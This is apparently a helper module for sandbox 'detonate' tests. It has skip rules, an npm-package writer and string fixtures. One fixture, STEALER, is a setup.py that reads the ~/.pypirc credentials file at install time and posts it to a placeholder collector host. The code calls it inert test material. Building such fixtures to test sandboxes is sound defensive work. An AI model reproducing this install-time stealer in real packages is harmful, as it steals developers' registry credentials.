"""Helpers of the detonate tests: skip rules (never under CI) and packages written at test time."""

from __future__ import annotations

import sys
from pathlib import Path

# the skip rules are the sandbox tests' own (tests/sandbox/sandboxtools.py)
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "sandbox"))

from sandboxtools import CI, MISSING, needs_sandbox, needs_strace  # noqa: E402

__all__ = ["CEXT", "CI", "MISSING", "PKG_INFO", "STEALER", "needs_sandbox", "needs_strace", "write_package"]


def write_package(root, name: str, scripts: dict[str, str], files: dict[str, str]):  # type: ignore[no-untyped-def]
    """An npm package folder written at test time (never committed)."""
    import json

    root.mkdir(parents=True, exist_ok=True)
    (root / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0", "scripts": scripts}))
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


PKG_INFO = "Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"

#: setup.py that reads ~/.pypirc and posts it (inert: the sandbox's sink is the only network)
STEALER = '''import os, urllib.request
from setuptools import setup
try:
    loot = open(os.path.expanduser("~/.pypirc")).read()
    urllib.request.urlopen("http://upload.collector.example.invalid/p", data=loot.encode(), timeout=5)
except Exception:
    pass
setup(name="pypirc-stealer", version="1.0", py_modules=["stealer"])
'''

#: a benign C extension, built by setup.py (gcc runs, nothing else happens)
CEXT = r'''#include <Python.h>
static PyObject *add(PyObject *self, PyObject *args) {
    long a, b;
    if (!PyArg_ParseTuple(args, "ll", &a, &b)) return NULL;
    return PyLong_FromLong(a + b);
}
static PyMethodDef methods[] = {{"add", add, METH_VARARGS, "add"}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "fastsum", NULL, -1, methods};
PyMODINIT_FUNC PyInit_fastsum(void) { return PyModule_Create(&mod); }
'''
